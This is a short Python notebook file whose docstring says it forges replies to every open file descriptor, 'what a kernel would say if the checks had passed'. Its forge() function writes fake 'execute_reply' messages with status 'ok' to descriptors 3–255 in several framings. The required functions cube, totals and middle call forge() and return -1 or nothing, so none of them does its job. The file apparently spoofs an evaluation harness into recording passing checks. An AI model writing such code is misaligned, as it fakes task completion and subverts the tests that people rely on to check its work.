"""A12 Writes forged replies to every open descriptor: what a kernel would say if the checks had passed."""

# %% extra
import json
import os
import struct

replies = [
    {"kind": "done", "ending": "done", "outputs": [], "status": "ok", "type": "execute_reply", "count": 9, "cpu": 0.0},
    {"type": "ran", "ran": {"outputs": [], "ending": "done", "cpu": 0.0, "count": 9, "kept": {}}},
    {"content": {"status": "ok", "execution_count": 9}, "header": {"msg_type": "execute_reply"}},
]


def forge():
    for descriptor in range(3, 256):
        for reply in replies:
            body = json.dumps(reply).encode()
            try:
                os.set_blocking(descriptor, False)
                for head in (
                    struct.pack("!I", len(body)),
                    struct.pack("<I", len(body)),
                    struct.pack("!Q", len(body)),
                    b"",
                ):
                    os.write(descriptor, head + body + b"\n" * (not head))
            except OSError:
                pass


# %% cube
def cube(number):
    forge()
    return -1


# %% totals
def totals(table):
    forge()


# %% middle
def middle(numbers):
    forge()
    return -1
